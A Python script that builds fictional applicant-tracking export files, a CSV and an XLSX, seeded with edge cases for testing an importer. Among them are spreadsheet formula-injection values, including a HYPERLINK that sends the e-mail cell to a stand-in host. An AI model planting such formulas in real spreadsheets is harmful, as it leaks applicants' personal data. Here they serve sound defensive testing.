"""Write `demo/`: two small files as an applicant tracking system exports them, full of what real exports are full of.

    python scripts/build_demo_files.py [FOLDER]

Nobody in them exists: names are drawn from lists with a fixed seed, addresses end in `.example` (RFC 2606), numbers
lie in the ranges ARCEP keeps for fiction. The same files come out each time. `README.md` is written along, so that
the line numbers it tells are those of the files. Needs `openpyxl`.
"""

import csv
import io
import re
import sys
import zipfile
from datetime import datetime, timedelta
from itertools import islice
from pathlib import Path

from demo_people import TODAY, WORK, Line, french, people, plain, unaccented
from openpyxl import Workbook

DEMO = Path(__file__).resolve().parent.parent / "demo"
CONSENT_EN = "I agree that my details are kept for two years for other jobs. (form v3)"
CSV_HEAD = (  # noqa: SIM905 (one line a file)
    "Nom;Prénom;E-mail;Téléphone;Métier;Ville;Mobilité (km);Disponibilité;Contrat;Expérience;Date de candidature;"
    "Consentement le;Texte du consentement;Date de naissance;Sexe;Nationalité;Commentaire;Salaire souhaité;"
    "Langues;Compétences"
).split(";")
XLSX_HEAD = (  # noqa: SIM905
    "Last name;First name;Email;Phone;Job title;City;Radius (km);Available from;Contract type;Years of experience;"
    "Applied on;Consent date;Consent text;Language;Date of birth;Gender;Nationality;Notes"
).split(";")
DOUBT, NOBODY, BAD_MAIL, BAD_DATE, TOO_OLD = (
    f"rejected: {why}" for why in ("doubt", "nobody to reach", "e-mail", "date", "retention")
)
IN_PLACE, AFTER = True, False  # a trap takes an ordinary person's line, or comes after it as one more


def main() -> None:
    """Write both files and the page that explains them."""
    folder = Path(sys.argv[1]) if len(sys.argv) > 1 else DEMO
    folder.mkdir(exist_ok=True)
    everyone = people()
    export = csv_lines(list(islice(everyone, 56)))
    applications = xlsx_lines(list(islice(everyone, 35)), export)
    numbers = write_csv(folder / "export_ats_candidats.csv", export)
    write_xlsx(folder / "applications.xlsx", applications)
    readme = explain(list(zip(numbers, export, strict=True)), list(enumerate(applications, start=2)))
    (folder / "README.md").write_text(readme, encoding="utf-8")


def csv_lines(some: list[Line]) -> list[Line]:
    """Return the lines of the CSV file, traps between ordinary people."""
    note = 'Très motivée ;\n"dispo" tout de suite,\nrappeler le soir.'
    formula = '=HYPERLINK("http://piege.example/?"&C2;"Voir le CV")'
    return with_traps(some, [
        (5, AFTER, same_mail(some[2])),
        (10, AFTER, same_phone(some[7])),
        (12, IN_PLACE, some[12].but(
            "two jobs in one cell, a salary by the month", "created with both jobs, 38 400 € a year and English B2",
            job="Soudeur / chaudronnier", salary="3 200 € brut/mois", languages="anglais B2")),
        (14, IN_PLACE, some[14].but("phone of an earlier person, other name", DOUBT, phone=some[3].phone)),
        (17, AFTER, some[8].but("e-mail of one earlier person, phone of another", DOUBT, phone=some[9].phone)),
        (21, IN_PLACE, some[21].but("neither e-mail nor phone", NOBODY, mail="", phone="")),
        (24, IN_PLACE, some[24].but("broken e-mail, no phone", BAD_MAIL, mail="karim(at)courriel.example", phone="")),
        (27, IN_PLACE, some[27].but("NUL in the e-mail, no phone", BAD_MAIL, mail="lucas.\0m@boite.example", phone="")),
        (28, IN_PLACE, some[28].but(
            "a net salary, a test instead of a level", "created; “2500 net” and “TOEIC 850” are listed, not guessed",
            salary="2500 net", languages="TOEIC 850")),
        (30, IN_PLACE, some[30].but("comment of three physical lines in quotes", "created", note=note)),
        (33, IN_PLACE, some[33].but("formula in the comment", "created, the formula kept as plain text", note=formula)),
        (36, IN_PLACE, some[36].but("impossible application date", BAD_DATE, applied="31/02/2026")),
        (39, IN_PLACE, some[39].but("applied over 2 years ago", TOO_OLD, applied="12/05/2023", consent="", text="")),
        (42, IN_PLACE, some[42].but(
            "consent date without its text", "created, no consent recorded", consent="14/09/2026", text="")),
        (44, IN_PLACE, some[44].but(
            "empty line before; city several share, unknown job", "created, city and job left open",
            city="Saint-Denis", job="Gardien de phare")),
        (46, AFTER, some[10].but("the same line as an earlier one", "double: nothing changes")),
    ])  # fmt: skip


def xlsx_lines(some: list[Line], export: list[Line]) -> list[Line]:
    """Return the lines of the workbook: new people, people of the CSV file again, and traps."""
    known = [line for line in export if not line.trap]
    silent = next(line for line in known[9:] if not line.consent)
    some[7] = some[7].but("phone stored as a number, its first zero lost", "created with that phone")
    some[7].phone_number = int(some[7].phone.replace(" ", ""))
    some[9] = some[9].but("phone stored as a number with its country code", "created with that phone")
    some[9].phone_number = int("33" + some[9].phone.replace(" ", "")[1:])
    mail = f"{plain(known[4].last)}@nouvelle-boite.example"
    return with_traps(some, [
        (2, AFTER, known[0].but(
            "in the CSV file: same e-mail, newer day, moved", "double by e-mail: updated",
            applied=french(TODAY - timedelta(days=9)), city="Dijon")),
        (5, AFTER, known[4].but(
            "in the CSV file: same phone and name, other e-mail", "double by phone and name: updated",
            mail=mail, applied=french(TODAY - timedelta(days=12)))),
        (10, IN_PLACE, some[10].but("phone of a person of the CSV file, other name", DOUBT, phone=known[6].phone)),
        (11, AFTER, known[7].but("in the CSV file: e-mail of one, phone of another", DOUBT, phone=known[8].phone)),
        (15, IN_PLACE, some[15].but("neither e-mail nor phone", NOBODY, mail="", phone="")),
        (17, IN_PLACE, some[17].but("broken e-mail (two @), no phone", BAD_MAIL, mail="a@@boite.example", phone="")),
        (19, IN_PLACE, some[19].but("impossible application date, as text", BAD_DATE, applied="2026-02-30")),
        (21, IN_PLACE, some[21].but("applied over 2 years ago", TOO_OLD, applied="04/03/2022", consent="", text="")),
        (23, IN_PLACE, some[23].but(
            "a real formula in the notes", "created, nothing computed", note='=HYPERLINK("http://piege.example/","CV")')),
        (25, AFTER, some[2].but(
            "same e-mail as an earlier row, other case", "double by e-mail: joined", mail=some[2].mail.title())),
        (27, AFTER, silent.but("in the CSV file: nothing new", "double: nothing changes but one more source")),
    ])  # fmt: skip


def with_traps(some: list[Line], traps: list[tuple[int, bool, Line]]) -> list[Line]:
    """Return `some` with each trap in place of, or after, the ordinary line of that index."""
    lines = list(some)
    for at, in_place, trap in reversed(traps):
        lines[at if in_place else at + 1 : at + 1] = [trap]
    return lines


def same_mail(one: Line) -> Line:
    """Return a person again: their address in capitals between spaces, a newer day, other availability."""
    return one.but(
        "e-mail of an earlier person in capitals, spaces around (one no-break)",
        "double by e-mail: joined, the newer word wins",
        mail=f" {one.mail.upper()}\N{NO-BREAK SPACE}",
        phone="",
        applied=french(TODAY - timedelta(days=5)),
        available="préavis 1 mois",
    )


def same_phone(one: Line) -> Line:
    """Return a person again: their phone written internationally, the name without accents in capitals, no e-mail."""
    return one.but(
        "phone and name of an earlier person, without accents, no e-mail",
        "double by phone and name: joined",
        mail="",
        phone="+33" + one.phone.replace(" ", "")[1:],
        last=unaccented(one.last).upper(),
        first=unaccented(one.first).upper(),
    )


def write_csv(path: Path, lines: list[Line]) -> list[int]:
    """Write the CSV file (cp1252, semicolons) and return the physical line on which each record begins."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow(CSV_HEAD)
    numbers = []
    for line in lines:
        if line.trap.startswith("empty line before"):
            out.write("\r\n")
        numbers.append(out.getvalue().count("\n") + 1)
        writer.writerow(line.cells())
    path.write_bytes(out.getvalue().encode("cp1252"))
    return numbers


def write_xlsx(path: Path, lines: list[Line]) -> None:
    """Write the workbook with real dates, then pack it anew without the hour it was written."""
    book = Workbook()
    book.active.title = "Read me"
    book.active.append(["Applications", "exported for the demo"])
    sheet = book.create_sheet("Applications")
    sheet.append(XLSX_HEAD)
    for line in lines:
        sheet.append([cell or None for cell in xlsx_cells(line)])
    for column, width in (("A", 16), ("C", 38), ("D", 18), ("E", 24), ("K", 12)):
        sheet.column_dimensions[column].width = width
    written = io.BytesIO()
    book.save(written)
    path.write_bytes(timeless(written.getvalue()))


def xlsx_cells(line: Line) -> list[str | int | datetime | None]:
    """Return the cells of a line in the order of `XLSX_HEAD`, days as days."""
    english = {job: in_english for job, in_english, _ in WORK}
    language = "en" if line.last in {"Diallo", "Nguyen", "Haddad"} else "fr"
    return [
        line.last, line.first, line.mail, line.phone_number or line.phone, english.get(line.job, line.job), line.city,
        leading_number(line.radius), excel_day(line.available), line.contract, leading_number(line.years),
        excel_day(line.applied), excel_day(line.consent), CONSENT_EN if line.text else None, language,
        excel_day(line.born), line.sex, line.nationality, line.note,
    ]  # fmt: skip


def leading_number(text: str) -> int | None:
    found = re.match(r"\d+", text)
    return int(found[0]) if found else None


def excel_day(text: str) -> datetime | str:
    """Return the day as Excel keeps it, or the text that is no day."""
    found = re.fullmatch(r"(\d{2})/(\d{2})/(\d{4})", text)
    return datetime(int(found[3]), int(found[2]), int(found[1])) if found else text  # noqa: DTZ001 (Excel knows no zones)


def timeless(workbook: bytes) -> bytes:
    """Return the same workbook with one fixed moment in place of those it was written at."""
    packed = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(workbook)) as old, zipfile.ZipFile(packed, "w") as new:
        for name in sorted(old.namelist()):
            content = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2026-11-16T08:00:00Z", old.read(name))
            new.writestr(zipfile.ZipInfo(name, (2026, 11, 16, 8, 0, 0)), content, zipfile.ZIP_DEFLATED)
    return packed.getvalue()


def explain(export: list[tuple[int, Line]], applications: list[tuple[int, Line]]) -> str:
    """Return the page that tells which line holds which trap."""
    return README.format(
        today=TODAY.isoformat(),
        csv_records=len(export),
        csv_last=export[-1][0],
        csv_rows=trap_rows(export),
        xlsx_records=len(applications),
        xlsx_rows=trap_rows(applications),
    )


def trap_rows(lines: list[tuple[int, Line]]) -> str:
    rows = (f"| {at} | {line.first} {line.last} | {line.trap} | {line.outcome} |" for at, line in lines if line.trap)
    return "\n".join(rows)


README = """# Two files to try the import with

Written by `scripts/build_demo_files.py`, this page too: change the script, not the files. Nobody in them exists:
addresses end in `.example`, phone numbers lie in the ranges kept for fiction. They read as exported on {today}; from
January 2028 on, an import finds more and more lines older than two years.

A line's number is the first physical line of its record; the header is line 1. Lines not listed hold one new person
each. Outcomes of the workbook are told after an import of the CSV file. In both files the columns on birth date, sex
or gender, and nationality are protected by law: dropped, and named by the import.

## `export_ats_candidats.csv`

cp1252, `;`, CRLF, French headers, days as DD/MM/YYYY. {csv_records} records, the last on line {csv_last}. What nobody can
tell for sure in a cell (“selon profil”, “courant”, “à voir”) is not guessed: the import lists it.
Protected columns: `Date de naissance`, `Sexe`, `Nationalité`.

| line | who | trap | outcome |
|---|---|---|---|
{csv_rows}

## `applications.xlsx`

Two sheets, of which the import takes “Applications” by itself and lets you choose; English headers, days as Excel dates.
{xlsx_records} records from row 2 on.
Protected columns: `Date of birth`, `Gender`, `Nationality`.

| row | who | trap | outcome |
|---|---|---|---|
{xlsx_rows}
"""


if __name__ == "__main__":
    main()
